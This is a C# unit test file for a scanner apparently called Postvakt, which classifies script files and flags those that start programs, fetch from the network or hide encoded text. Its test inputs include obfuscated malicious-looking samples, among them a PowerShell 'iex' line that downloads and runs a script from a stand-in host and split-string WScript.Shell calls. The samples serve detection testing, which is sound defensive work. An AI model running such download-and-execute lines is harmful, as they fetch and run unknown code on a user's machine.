using Postvakt.Documents.Kinds;
using Postvakt.Documents.Report;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Scripts;

public sealed class ScriptReaderTests
{
    [Theory]
    [InlineData("a.js", "var s = new ActiveXObject('WScr' + 'ipt.Sh' + 'ell'); s.Run('notepad');", FileKind.JavaScript)]
    [InlineData("a.vbs", "Set s = CreateObject(\"WScript.\" & \"Shell\")", FileKind.VbScript)]
    [InlineData("a.ps1", "i`e`x (New-Object Net.WebClient).DownloadString('https://a.example/x')", FileKind.PowerShell)]
    [InlineData("a.bat", "@echo off\r\np^ow^er^sh^ell -c ls", FileKind.Batch)]
    [InlineData("a.hta", "<html><script>new ActiveXObject('WScript.Shell')</script></html>", FileKind.Hta)]
    public void Script_ThatStartsPrograms_Acts(string name, string source, FileKind kind)
    {
        var file = Look.At(name, source);
        Assert.Equal(kind, file.Kind);
        Assert.True(file.Has(FindingKinds.ScriptActs));
    }

    [Fact]
    public void Script_WithoutAName_IsToldByItsWords() => Assert.Equal(FileKind.Batch, Look.At("readme.dat", "@echo off\r\nstart calc").Kind);

    [Fact]
    public void Script_ThatFetches_GivesTheAddress() =>
        Assert.Contains(Look.At("a.js", "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'https://a.exa' + 'mple/1.dat')").Effects, e => e.Kind == EffectKind.Download && e.Target == "https://a.example/1.dat");

    [Fact]
    public void EncodedScript_HidesItsText() => Assert.True(Look.At("a.vbe", "#@~^EwAAAA==abc").Has(FindingKinds.EncodedScript));

    [Fact]
    public void Notes_AboutScripts_AreText() => Assert.Equal(FileKind.Text, Look.At("notes.txt", "Remember to ask about the shell.").Kind);

    [Fact]
    public void Words_AreFoundOnceEach_InTheirOrder()
    {
        var file = Look.At("a.js", "var c = 'curl '; // XMLHTTP\n'wscript.shell'; 'xmlhttp'; 'WScript.Shell'; powershell");
        Assert.Equal([("xmlhttp", "a.js, line 1"), ("curl ", "a.js, line 1"), ("wscript.shell", "a.js, line 2"), ("powershell", "a.js, line 2")], file.Effects.Select(e => (e.Call, e.Where)));
    }

    [Theory]
    [InlineData("curl https://a.example", true)]
    [InlineData("libcurl.txt; curl https://a.example", true)]
    [InlineData("libcurl curling", false)]
    [InlineData("hhcmd", false)]
    public void Carrier_IsAWord_WhereverItStands(string command, bool starts) => Assert.Equal(starts, Postvakt.Documents.Macros.CommandLine.StartsCarrier(command));
}
